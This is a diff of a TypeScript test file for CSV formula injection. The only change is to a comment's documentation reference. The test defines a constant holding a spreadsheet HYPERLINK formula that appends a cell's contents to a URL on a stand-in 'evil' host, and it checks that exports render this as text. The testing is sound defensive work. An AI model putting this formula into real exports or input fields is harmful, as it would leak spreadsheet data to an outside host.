@@ -10,8 +10,9 @@ import { createProject, createTask } from '../helpers/projects.ts'
 
 // Finding 7 (issue 24): CSV formula injection. A name anyone can give through the
 // public POST /crm/capture and POST /support must come out of every CSV the
-// service writes as text, not as a live formula (CONTRACT "Analytics and reports",
-// docs/platform.md "CSV"); number columns stay numbers.
+// service writes as text, not as a live formula
+// (docs/analytics.md "Formula injection", docs/platform.md "CSV"); number
+// columns stay numbers.
 
 const EVIL = '=HYPERLINK("http://evil/?"&A1,"Click")'
 /** EVIL as a CSV cell: a leading ', then RFC 4180 quoting (it holds quotes and a comma). */
